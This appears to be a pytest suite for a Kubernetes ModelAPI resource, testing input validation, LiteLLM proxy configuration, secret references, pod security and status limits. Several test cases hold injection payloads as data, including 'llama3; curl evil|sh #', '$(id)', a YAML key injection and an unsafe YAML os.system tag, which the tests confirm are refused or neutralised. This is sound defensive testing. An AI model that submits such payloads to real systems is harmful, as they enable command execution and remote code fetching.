"""What a ModelAPI may say, and that its configuration is data, never text pasted together."""

from __future__ import annotations

import os
import subprocess

import pytest
import yaml
from hypothesis import given
from hypothesis import strategies as st

from kaos_core.documents import load_one
from kaos_core.errors import ResourceError
from kaos_core.kinds.modelapi import litellm_config, master_key, offered_models
from kaos_core.manifests.names import API_VERSION
from kaos_core.manifests.pod_security import violations
from kaos_core.observed import Observed
from kaos_core.plan import plan
from kaos_core.resources.modelapi import ApiKey, ProxyConfig
from kaos_core.status import status
from kaos_core.status_limits import MAX_STATUS, size

KEY = {"valueFrom": {"secretKeyRef": {"name": "keys", "key": "openai"}}}


def api(**spec):
    return {"apiVersion": API_VERSION, "kind": "ModelAPI", "metadata": {"name": "api"}, "spec": spec}


@pytest.mark.parametrize(
    ("spec", "says"),
    [
        ({}, "give mode: Proxy or Hosted"),
        ({"mode": "Proxy", "type": "proxy"}, "give mode: Proxy or Hosted"),
        ({"mode": "Hosted"}, "mode Hosted needs hostedConfig.model"),
        ({"type": "hosted"}, "mode Hosted needs hostedConfig.model"),
        ({"mode": "proxy"}, "'proxy' is not one of 'Proxy' or 'Hosted'"),
        ({"mode": "Proxy", "proxyConfig": {"env": []}}, "use spec.container.env"),
        ({"mode": "Proxy", "proxyConfig": {"apiBase": "https://u:p@h"}}, "spec.proxyConfig.apiBase"),
        ({"mode": "Proxy", "proxyConfig": {"configYaml": {}}}, "give exactly one of fromString, fromSecretKeyRef"),
        ({"mode": "Proxy", "proxyConfig": {"models": ['x"\n  callbacks: evil']}}, "spec.proxyConfig.models[0]"),
        ({"mode": "Proxy", "proxyConfig": {"provider": "open ai"}}, "spec.proxyConfig.provider"),
        ({"mode": "Proxy", "proxyConfig": {"apiKey": {}}}, "give exactly one of value, valueFrom"),
        ({"mode": "Proxy", "proxyConfig": {"apiKey": {"value": "k", **KEY}}}, "give exactly one of value, valueFrom"),
        ({"mode": "Hosted", "hostedConfig": {"model": "llama3; curl evil|sh #"}}, "spec.hostedConfig.model"),
        ({"mode": "Hosted", "hostedConfig": {"model": "$(id)"}}, "spec.hostedConfig.model"),
        ({"mode": "Hosted", "hostedConfig": {"model": "a\nb"}}, "spec.hostedConfig.model"),
    ],
)
def test_a_refusal_says_what_is_missing(plugins, registry, spec, says):
    """B44, B45"""
    with pytest.raises(ResourceError) as refused:
        plan(api(**spec), registry, plugins)
    assert says in str(refused.value)


def test_a_hosted_model_is_an_argument_and_no_shell_text(plugins, registry):
    """B44"""
    made = plan(api(mode="Hosted", hostedConfig={"model": "llama3:8b"}), registry, plugins)
    (pull,) = made.objects[-1]["spec"]["template"]["spec"]["initContainers"]
    assert pull["command"][-1] == "llama3:8b"
    assert "llama3" not in pull["command"][2]


@pytest.fixture
def pull(tmp_path, plugins, registry):
    """Run the pull's own command line with the shell of this machine; `ollama` writes down what it was asked."""

    def run(model: str, answer: str) -> tuple[int, str]:
        asked = tmp_path / "asked"
        program = tmp_path / "ollama"
        program.write_text(f"#!/bin/sh\nprintf '%s\\n' \"$@\" >> {asked}\n{answer}\n")
        program.chmod(0o700)
        made = plan(api(mode="Hosted", hostedConfig={"model": "x"}), registry, plugins)
        (container,) = made.objects[-1]["spec"]["template"]["spec"]["initContainers"]
        command = [*container["command"][:-1], model]
        path = f"{tmp_path}:{os.environ['PATH']}"
        done = subprocess.run(command, env={"PATH": path}, check=False, timeout=30, capture_output=True)
        return done.returncode, asked.read_text()

    return run


def test_the_pull_hands_any_model_on_as_it_is(pull):
    """B44: what the pattern refuses would do no harm either."""
    hostile = "llama3; touch evil $(id) `id` 'x'"
    code, asked = pull(hostile, "exit 0")
    assert code == 0
    assert f"pull\n{hostile}\n" in asked


def test_the_pull_ends_when_its_server_does(pull):
    code, asked = pull("m", "exit 1")
    assert code == 1
    assert "pull" not in asked


SCALAR = st.from_type(str).filter(lambda text: "\x00" not in text)


@given(st.lists(SCALAR, max_size=4), SCALAR | st.none(), SCALAR | st.none(), st.booleans())
def test_the_proxy_configuration_survives_any_text(models, provider, base, keyed):
    """B45: even text that the patterns refuse comes back from the YAML as it went in, and adds no key."""
    key = ApiKey.model_construct(value="k") if keyed else None
    proxy = ProxyConfig.model_construct(models=models, provider=provider, api_base=base, api_key=key)
    config = litellm_config(proxy)
    text = yaml.safe_dump(config, sort_keys=False)
    assert yaml.safe_load(text) == load_one(text) == config
    assert config.keys() == {"model_list"}
    assert [entry["model_name"] for entry in config["model_list"]] == (models or ["*"])
    for entry in config["model_list"]:
        params = entry["litellm_params"]
        assert params.keys() <= {"model", "api_base", "api_key"}
        assert params["model"].endswith(entry["model_name"])
        assert params.get("api_base", "") == (base or "")


@pytest.mark.parametrize(
    ("provider", "model", "upstream"),
    [
        (None, "gpt-4", "gpt-4"),
        (None, "openai/*", "openai/*"),
        ("openai", "gpt-4", "openai/gpt-4"),
        ("openai", "openai/gpt-4", "openai/gpt-4"),
        ("openai", "*", "openai/*"),
        ("openrouter", "openai/gpt-4", "openrouter/openai/gpt-4"),
    ],
)
def test_a_model_gets_its_provider_once(provider, model, upstream):
    proxy = ProxyConfig.model_validate({"models": [model]} | ({"provider": provider} if provider else {}))
    (entry,) = litellm_config(proxy)["model_list"]
    assert (entry["model_name"], entry["litellm_params"]["model"]) == (model, upstream)


def test_a_proxy_without_models_passes_everything_on():
    assert litellm_config(ProxyConfig())["model_list"] == [{"model_name": "*", "litellm_params": {"model": "*"}}]


@pytest.mark.parametrize("key", [KEY, {"value": 'it\'s $(secret): "x"'}])
def test_a_key_is_a_reference_in_the_configuration_and_stands_in_the_environment(plugins, registry, key):
    spec = {"models": ["gpt-4"], "provider": "openai", "apiBase": "https://api.example", "apiKey": key}
    made = plan(api(mode="Proxy", proxyConfig=spec), registry, plugins)
    (config,) = made.process.files.values()
    params = yaml.safe_load(config)["model_list"][0]["litellm_params"]
    assert params == {"model": "openai/gpt-4", "api_base": "https://api.example", "api_key": "os.environ/PROXY_API_KEY"}
    assert {"name": "PROXY_API_KEY", **key} in made.process.env


def test_a_whole_configuration_is_used_as_it_is(plugins, registry):
    made = plan(api(mode="Proxy", proxyConfig={"configYaml": {"fromString": "a: 1 # mine\n"}}), registry, plugins)
    assert list(made.process.files.values()) == ["a: 1 # mine\n"]


def test_a_configuration_in_a_secret_is_mounted_and_never_read(plugins, registry):
    secret = {"fromSecretKeyRef": {"name": "litellm", "key": "c.yaml"}}
    made = plan(api(mode="Proxy", proxyConfig={"configYaml": secret}), registry, plugins)
    pod = made.objects[-1]["spec"]["template"]["spec"]
    assert made.process.files == {}
    assert pod["volumes"][0]["secret"] == {"secretName": "litellm", "items": [{"key": "c.yaml", "path": "config.yaml"}]}
    assert pod["containers"][0]["volumeMounts"][0]["mountPath"] == "/etc/kaos/params"


def test_a_proxy_without_a_master_key_gets_a_token(plugins, registry):
    made = plan(api(mode="Proxy"), registry, plugins)
    assert (made.token.secret, made.token.env, made.token.key) == ("modelapi-api-token", "LITELLM_MASTER_KEY", "token")
    given_key = {"env": [{"name": "LITELLM_MASTER_KEY", "value": "x"}]}
    assert plan(api(mode="Proxy", container=given_key), registry, plugins).token is None


@pytest.mark.parametrize(
    ("text", "says"),
    [
        ("a: [", "spec.proxyConfig.configYaml.fromString"),
        ("a: !!python/object/apply:os.system [id]", "spec.proxyConfig.configYaml.fromString"),
        ("- a", "is no mapping"),
        ("", "is no mapping"),
        ("a: 1\n---\nb: 2", "is no mapping"),
    ],
)
def test_a_configuration_that_would_not_start_is_told(plugins, registry, text, says):
    made = plan(api(mode="Proxy", proxyConfig={"configYaml": {"fromString": text}}), registry, plugins)
    (problem,) = made.errors
    assert problem.reason == "InvalidParams"
    assert says in str(problem)
    assert made.objects == ()


@pytest.mark.parametrize(
    ("spec", "offered", "mode"),
    [
        ({"mode": "Proxy"}, ["*"], "Proxy"),
        ({"type": "proxy", "proxyConfig": {"models": ["a", "b/*"]}}, ["a", "b/*"], "Proxy"),
        ({"mode": "Hosted", "hostedConfig": {"model": "m:1"}}, ["m:1"], "Hosted"),
        ({"type": "hosted", "hostedConfig": {"model": "m:1"}, "proxyConfig": {"models": ["x"]}}, ["m:1"], "Hosted"),
    ],
)
def test_the_status_shows_mode_and_models_however_they_are_spelt(plugins, registry, spec, offered, mode):
    made = plan(api(**spec), registry, plugins)
    assert offered_models(api(**spec)) == offered
    assert made.details == {"mode": mode, "models": offered}
    shown = status(made, Observed(), None, "2026-11-21T00:00:00Z")
    assert (shown["mode"], shown["models"]) == (mode, offered)


def test_a_long_list_of_models_does_not_outgrow_the_status(plugins, registry):
    models = [f"{number:03}-{'x' * 250}" for number in range(256)]
    made = status(plan(api(mode="Proxy", proxyConfig={"models": models}), registry, plugins), Observed(), None, "now")
    assert 0 < len(made["models"]) < len(models)
    assert size(made) <= MAX_STATUS


def test_the_key_of_a_proxy_is_the_one_its_agents_are_given(plugins, registry):
    made = plan(api(mode="Proxy"), registry, plugins)
    reference = master_key("api", api(mode="Proxy"))["valueFrom"]["secretKeyRef"]
    assert reference == {"name": made.token.secret, "key": made.token.key}
    assert {"name": made.token.env, "valueFrom": {"secretKeyRef": reference}} in container(made)["env"]


def container(made):
    return made.objects[-1]["spec"]["template"]["spec"]["containers"][0]


SPECS = {
    "proxy": {"mode": "Proxy"},
    "hosted": {"mode": "Hosted", "hostedConfig": {"model": "m"}},
}


@pytest.mark.parametrize("kind", SPECS)
@pytest.mark.parametrize("read_only", [False, True])
def test_both_modes_are_restricted_and_write_only_where_they_may(plugins, registry, kind, read_only):
    """Every folder that the environment names is a volume as soon as the root filesystem is read-only."""
    made = plan(api(**SPECS[kind], security={"readOnlyRootFilesystem": read_only}), registry, plugins)
    pod = made.objects[-1]["spec"]["template"]["spec"]
    assert violations(pod, "restricted") == []
    main = container(made)
    assert main["securityContext"].get("readOnlyRootFilesystem", False) is read_only
    mounts = {mount["mountPath"] for mount in main["volumeMounts"] if not mount.get("readOnly")}
    named = {entry["value"] for entry in main["env"] if str(entry.get("value", "")).startswith("/")}
    assert named
    assert named <= (mounts if read_only else mounts | {"/tmp"})


@pytest.mark.parametrize(
    ("kind", "live", "ready"), [("proxy", "/health/liveliness", "/health/readiness"), ("hosted", "/", "/")]
)
def test_probes_ask_what_answers_without_a_key(plugins, registry, kind, live, ready):
    main = container(plan(api(**SPECS[kind]), registry, plugins))
    paths = [main[name]["httpGet"]["path"] for name in ("startupProbe", "livenessProbe", "readinessProbe")]
    assert paths == [live, live, ready]
    headers = [header["name"] for header in main["livenessProbe"]["httpGet"]["httpHeaders"]]
    assert headers == ["Host"]


def test_a_mirror_and_a_proxy_reach_the_pull_as_well(plugins, registry):
    env = [{"name": "HTTPS_PROXY", "value": "http://proxy:3128"}]
    override = {"image": "mirror.example/ollama:1", "imagePullPolicy": "Always", "env": env}
    made = plan(api(**SPECS["hosted"], container=override), registry, plugins)
    (pull,) = made.objects[-1]["spec"]["template"]["spec"]["initContainers"]
    assert (pull["image"], pull["imagePullPolicy"]) == ("mirror.example/ollama:1", "Always")
    assert env[0] in pull["env"]
